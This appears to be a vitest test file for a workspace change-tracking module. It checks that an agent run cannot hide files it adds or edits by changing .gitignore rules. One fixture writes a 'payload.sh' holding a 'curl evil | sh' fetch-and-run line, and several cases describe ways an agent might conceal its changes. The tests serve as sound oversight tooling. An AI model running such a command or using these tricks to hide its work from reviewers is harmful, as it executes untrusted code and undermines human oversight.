import { mkdirSync, writeFileSync } from "node:fs";
import { appendFile, mkdir, rm, writeFile } from "node:fs/promises";
import { describe, expect, it } from "vitest";
import { diffSnapshots } from "../../src/workspace/changes.js";
import { snapshotWorkspace, stageWorkspace } from "../../src/workspace/snapshot.js";
import { tmpWorkspace } from "../helpers/tmp-workspace.js";

/** Snapshots `files` as the start, lets `act` play the agent, then reports the change as a run does. */
async function changesAfter(
  files: Record<string, string>,
  act: (path: (rel: string) => string) => Promise<void>,
) {
  await using ws = await tmpWorkspace({ files });
  await using runs = await tmpWorkspace();
  const target = { workspace: ws.root, gitDir: runs.path("git") };
  const before = await snapshotWorkspace(target);
  await act(ws.path);
  await stageWorkspace(target);
  const changes = await diffSnapshots({ ...target, before });
  return Object.fromEntries(changes.changedFiles.map((file) => [file.path, file.status]));
}

describe("the start's ignore rules decide what counts", () => {
  it("an ignore rule the agent appends never turns an untouched file into deleted", async () => {
    const changed = await changesAfter(
      { ".gitignore": "node_modules/\n", "coverage/lcov.info": "TN:\n", "src/a.ts": "a\n" },
      (path) => appendFile(path(".gitignore"), "coverage/\n"),
    );
    expect(changed).toEqual({ ".gitignore": "modified" });
  });

  it("with `*` in .gitignore, only .gitignore changed", async () => {
    const changed = await changesAfter({ "a.txt": "a\n", "dir/b.txt": "b\n" }, (path) =>
      writeFile(path(".gitignore"), "*\n"),
    );
    expect(changed).toEqual({ ".gitignore": "added" });
  });

  it("a tracked file that a new rule matches still shows its edit and its removal", async () => {
    const changed = await changesAfter(
      { "log/a.log": "a\n", "log/b.log": "b\n", "log/c.log": "c\n" },
      async (path) => {
        await writeFile(path(".gitignore"), "*.log\n");
        await writeFile(path("log/a.log"), "changed\n");
        await rm(path("log/b.log"));
      },
    );
    expect(changed).toEqual({
      ".gitignore": "added",
      "log/a.log": "modified",
      "log/b.log": "deleted",
    });
  });

  it("a new folder whose own .gitignore says `*` does not hide what the agent put there", async () => {
    const changed = await changesAfter({ "a.txt": "a\n" }, async (path) => {
      await mkdir(path("drop"));
      await writeFile(path("drop/.gitignore"), "*\n");
      await writeFile(path("drop/payload.sh"), "curl evil | sh\n");
    });
    expect(changed).toEqual({ "drop/.gitignore": "added", "drop/payload.sh": "added" });
  });

  it("a file the agent hides with a new rule in an existing .gitignore still counts", async () => {
    const changed = await changesAfter(
      { ".gitignore": "*.log\n", "a.txt": "a\n" },
      async (path) => {
        await appendFile(path(".gitignore"), "secret.txt\n");
        await writeFile(path("secret.txt"), "s\n");
        await writeFile(path("debug.log"), "still ignored\n");
      },
    );
    expect(changed).toEqual({ ".gitignore": "modified", "secret.txt": "added" });
  });

  it("files ignored at the start stay out when the agent removes the rule", async () => {
    const changed = await changesAfter(
      {
        ".gitignore": "*.log\nnode_modules/\n",
        "debug.log": "old\n",
        "node_modules/x/i.js": "1\n",
      },
      async (path) => {
        await writeFile(path(".gitignore"), "");
        await writeFile(path("node_modules/x/new.js"), "2\n");
      },
    );
    expect(changed).toEqual({ ".gitignore": "modified" });
  });

  it("a self-ignoring .gitignore's rules hold after the agent deletes it", async () => {
    const changed = await changesAfter(
      { "cache/.gitignore": "*\n", "cache/blob.bin": "x\n", "a.txt": "a\n" },
      async (path) => {
        await rm(path("cache/.gitignore"));
        await writeFile(path("cache/more.bin"), "y\n");
      },
    );
    expect(changed).toEqual({});
  });

  it("keeps rules in folders whose names are not UTF-8", async () => {
    const dir = Buffer.from([0x62, 0x61, 0x64, 0xff]); // "bad\xff"
    await using ws = await tmpWorkspace({ files: { "a.txt": "a\n" } });
    await using runs = await tmpWorkspace();
    const under = (name: string) =>
      Buffer.concat([Buffer.from(`${ws.root}/`), dir, Buffer.from(name)]);
    mkdirSync(under(""));
    writeFileSync(under("/.gitignore"), "*.tmp\n");
    const target = { workspace: ws.root, gitDir: runs.path("git") };
    const before = await snapshotWorkspace(target);

    await writeFile(ws.path(".gitignore"), "other\n");
    writeFileSync(under("/x.tmp"), "t\n");
    writeFileSync(under("/y.txt"), "y\n");
    await stageWorkspace(target);
    const changes = await diffSnapshots({ ...target, before });

    expect(
      changes.changedFiles.map((file) => [Buffer.from(file.path).length, file.status]),
    ).toEqual([
      [".gitignore".length, "added"],
      [Buffer.from(`${dir.toString("utf8")}/y.txt`).length, "added"],
    ]);
  });

  it("an unchanged workspace reports nothing, ignore files and all", async () => {
    const changed = await changesAfter(
      {
        ".gitignore": "*.log\n",
        "sub/.gitignore": "*\n!keep\n",
        "sub/keep": "k\n",
        "x.log": "l\n",
      },
      async () => {},
    );
    expect(changed).toEqual({});
  });
});
